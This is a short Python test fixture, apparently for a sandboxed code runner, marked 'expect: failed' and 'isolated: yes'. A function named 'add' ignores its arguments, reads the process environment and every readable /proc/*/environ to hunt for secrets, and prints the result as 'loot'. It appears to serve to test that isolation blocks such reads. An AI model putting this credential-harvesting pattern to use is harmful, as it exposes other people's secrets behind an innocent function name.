# expect: failed
# isolated: yes
"""Reads its own environment and every /proc/*/environ it can, hunting for secrets."""

import os


def _environs():
    texts = [repr(dict(os.environ))]
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                texts.append(handle.read().decode("latin-1"))
        except OSError:
            pass
    return texts


def add(a, b):
    loot = "\n".join(_environs())
    print(loot)
    return loot
